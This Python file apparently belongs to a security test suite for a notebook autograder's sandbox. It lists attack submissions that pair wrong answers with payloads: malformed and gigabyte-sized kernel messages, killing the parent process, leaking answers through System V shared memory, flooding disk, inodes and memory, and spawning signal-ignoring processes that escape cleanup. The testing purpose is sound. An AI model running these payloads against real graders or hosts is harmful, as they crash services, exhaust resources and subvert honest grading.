"""Attacks on what speaks with the grader: the kernel's messages, the worker's frames, shared corners."""

from attack import Attack

PLAIN = "def double(x):\n    return 2 * x"
WRONG = "def double(x):\n    return 0 * x\n"
SHOWS = "from IPython.display import display\ndisplay('fine', {'a': 1})\n\ndef double(x):\n    return 2 * x"
KERNEL = """
try:
    from ipykernel.kernelapp import IPKernelApp
    kernel = IPKernelApp.instance().kernel
except Exception:
    kernel = None  # a graded call: no kernel here
"""
NONSENSE = "the notebook's kernel may say what it likes; the cell failed, the functions are graded"
SYSTEM_V = "seccomp: System V and POSIX queues outlive a box, so there are none"


def in_kernel(name: str, goal: str, layer: str, body: str, benign: str = SHOWS) -> Attack:
    lines = "\n".join("    " + line for line in body.strip().splitlines())
    return Attack(name, goal, layer, benign, double=f"{WRONG}{KERNEL}\nif kernel is not None:\n{lines}\n")


def system_v(name: str, goal: str, body: str) -> Attack:
    lines = "\n".join("    " + line for line in body.strip().splitlines())
    steal = f"import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n\ndef steal():\n{lines}\n"
    return Attack(name, goal, SYSTEM_V, PLAIN, steal)


ATTACKS = [
    in_kernel(
        "sends messages that are none",
        "a grader that falls over, and so no verdict",
        NONSENSE,
        """
kernel.iopub_socket.send_multipart([b"garbage"])
kernel.iopub_socket.send_multipart([b"", b"<IDS|MSG>", b"not a signature", b"{", b"[" * 100_000, b"", b"{}"])
        """,
    ),
    in_kernel(
        "sends well-signed nonsense",
        "the same with a right signature",
        NONSENSE,
        """
parent = kernel.get_parent()
for kind, content in (
    ("stream", {"name": 5, "text": {"a": 1}}),
    ("stream", []),
    ("error", {"ename": 1, "evalue": [2], "traceback": [3, None]}),
    ("error", {"ename": None, "evalue": None, "traceback": 7}),
    ("display_data", {"data": [], "metadata": 3, "transient": 4}),
    ("display_data", {"data": {"text/plain": {"b": [1]}, "image/png": 5}, "metadata": {}}),
    ("execute_result", {"data": {"text/html": None}, "execution_count": "x", "metadata": None}),
    ("update_display_data", {"transient": None}),
    ("comm_open", {"comm_id": None}),
    ("clear_output", 5),
    ("status", {"execution_state": []}),
    ("unheard_of", None),
):
    try:
        kernel.session.send(kernel.iopub_socket, kind, content, parent=parent)
    except Exception as error:
        print(error)
        """,
    ),
    in_kernel(
        "displays a gigabyte at once",
        "the grader's memory, by one message",
        "a limit on the size of a message",
        """
kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "x" * (300 << 20)}, parent=kernel.get_parent())
        """,
        benign="def double(x):\n    return 2 * x\nprint('y' * 1_000_000)",
    ),
    Attack(
        "sends a frame of gigabytes",
        "the grader's memory, past the limit on results",
        "a frame is no longer than a result may be",
        "import os\n\ndef double(x):\n    os.write(1, b'hello')\n    return 2 * x",
        double="""
        import os, struct
        def double(x):
            block = bytes(1 << 20)
            for fd in range(3, 16):
                try:
                    os.write(fd, struct.pack("<4sIQ", b"FRAM", 7, 1 << 31))
                    for _ in range(600):
                        os.write(fd, block)
                except OSError:
                    pass
            return 0 * x
        """,
    ),
    Attack(
        "kills the worker before it has said anything",
        "a fault of the grader in the place of a wrong answer",
        "the worker speaks before a student's code runs; what follows is the student's",
        "import os\nos.getppid()\n\ndef double(x):\n    return 2 * x",
        double="""
        import os, signal
        pid = os.getpid()
        if "ipykernel.kernelapp" not in __import__("sys").modules or __name__ != "__main__" or True:
            try:
                os.kill(os.getppid(), signal.SIGKILL)
            except OSError:
                pass
        def double(x):
            return 0 * x
        """,
    ),
    system_v(
        "leaves a message in shared memory",
        "an answer passed on, by System V shared memory",
        """
found = libc.shmget(0x5EC2E7, ctypes.c_size_t(4096), 0o1666)
return "the-secret-2718281828: shared memory" if found >= 0 else ctypes.get_errno()
        """,
    ),
    system_v(
        "leaves a message in a queue",
        "an answer passed on, by System V and POSIX queues",
        """
found = libc.msgget(0x5EC2E7, 0o1666)
again = libc.semget(0x5EC2E7, 1, 0o1666)
return "the-secret-2718281828: a queue" if found >= 0 or again >= 0 else ctypes.get_errno()
        """,
    ),
    Attack(
        "writes to a socket of the host that has a file",
        "the host's log and its services, by a datagram",
        "a private root; seccomp: no datagram sockets, for a datagram needs no connection",
        "import socket\n\ndef double(x):\n    a, b = socket.socketpair()\n    a.send(b'2')\n    return int(b.recv(1)) * x",
        """
        import socket
        def steal():
            loot = []
            for make in (lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM),
                         lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]):
                for address in ("{log}", "\\0grader-test-{pid}-datagram"):
                    try:
                        make().sendto(b"hello", address)
                        loot.append("the-secret-2718281828: sent")
                    except OSError as error:
                        loot.append(str(error))
            return loot
        """,
    ),
    Attack(
        "makes sockets without end",
        "the host's inodes, through the one directory that is shared",
        "the directory of the sockets is watched",
        PLAIN,
        double=WRONG
        + """
import os, socket, glob
places = [os.path.dirname(os.path.dirname(p)) or p for p in glob.glob("/tmp/grader-*/*/k/*")]
folders = set(glob.glob("/tmp/grader-*/*/k")) | set(glob.glob("/tmp/grader-*/k")) | set(places)
for number in range(20_000):
    for folder in folders:
        try:
            with socket.socket(socket.AF_UNIX) as made:
                made.bind(f"{folder}/x{number}")
        except OSError:
            pass
print("made them all")
""",
    ),
    Attack(
        "fills the disk with files that are open and have no name",
        "a full host, where no limited file system is",
        "a private file system of limited size; what a box writes is watched where there is none",
        "import tempfile\n\ndef double(x):\n    with tempfile.TemporaryFile() as file:\n        file.write(b'1' * 1000)\n    return 2 * x",
        double="""
        import os, time
        def double(x):
            written, kept = 0, []
            try:
                for number in range(40):
                    kept.append(open(f"gone{number}", "wb"))
                    os.unlink(f"gone{number}")
                    os.posix_fallocate(kept[-1].fileno(), 0, 60 << 20)
                    written += 60
                time.sleep(3)
            except OSError:
                return f"only {written} MB"
            return "the-secret-2718281828: 2 GB"
        """,
    ),
    Attack(
        "fills the disk behind doors that it has closed",
        "a full host, where what watches the disk is no more than another process of this user",
        "what a box closes counts as too much, and it cannot close itself",
        "import os\n\ndef double(x):\n    os.mkdir('mine', 0o700)\n    os.rmdir('mine')\n    return 2 * x",
        double="""
        import ctypes, os, time
        def double(x):
            ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
            written, kept = 0, []
            try:
                os.mkdir("closed")
                for number in range(40):
                    kept.append(open(f"closed/{number}", "wb"))
                    if number % 2:
                        os.unlink(f"closed/{number}")
                    os.posix_fallocate(kept[-1].fileno(), 0, 60 << 20)
                    written += 60
                os.chmod("closed", 0)
                time.sleep(3)
            except OSError:
                return f"only {written} MB"
            return "the-secret-2718281828: 2 GB"
        """,
    ),
    Attack(
        "nests directories without end",
        "a grader that cannot tidy up, and falls over",
        "what is left is removed without recursion",
        "import os\nos.makedirs('a/b/c')\n\ndef double(x):\n    return 2 * x",
        double=WRONG
        + """
import os
for _ in range(3000):
    try:
        os.mkdir("d")
        os.chdir("d")
    except OSError:
        break
""",
    ),
    Attack(
        "shares memory out in mappings",
        "memory that no process counts as its own",
        "shared memory counts as a box's memory",
        PLAIN,
        double="""
        import mmap, os, time
        def double(x):
            for _ in range(24):
                if os.fork() == 0:
                    held = mmap.mmap(-1, 100 << 20)
                    for start in range(0, 100 << 20, 4096):
                        held[start] = 1
                    time.sleep(100)
                    os._exit(0)
            time.sleep(3)
            return "the-secret-2718281828: 2400 MB"
        """,
    ),
    Attack(
        "moves into a session of its own and stays",
        "a process that outlives its box",
        "every descendant ends with the box",
        "import subprocess\n\ndef double(x):\n    subprocess.run(['true'], start_new_session=True, check=True)\n    return 2 * x",
        double="""
        import os, signal, time
        def double(x):
            if os.fork() == 0:
                for number in range(1, 32):
                    try:
                        signal.signal(number, signal.SIG_IGN)
                    except OSError:
                        pass
                for _ in range(3):
                    os.setsid()
                    if os.fork():
                        os._exit(0)
                time.sleep(1000)
            time.sleep(0.2)
            return 0 * x
        """,
    ),
    Attack(
        "writes garbage to every descriptor of the kernel",
        "a grader that waits for ever for a peer that broke the protocol",
        "no wait on a kernel is without a limit",
        PLAIN,
        double=WRONG
        + """
import os, time
time.sleep(0.5)
for fd in range(3, 64):
    try:
        os.write(fd, b"garbage" * 20)
    except OSError:
        pass
time.sleep(1)
""",
    ),
    Attack(
        "updates a display past the limit on output",
        "a page and a database of any size",
        "updates count as output",
        "h = display('a', display_id=True)\nh.update('b')\n\ndef double(x):\n    return 2 * x",
        double=WRONG
        + """
h = display("small", display_id=True)
for _ in range(12):
    h.update({"text/plain": "x" * (12 << 20)}, raw=True)
""",
    ),
]
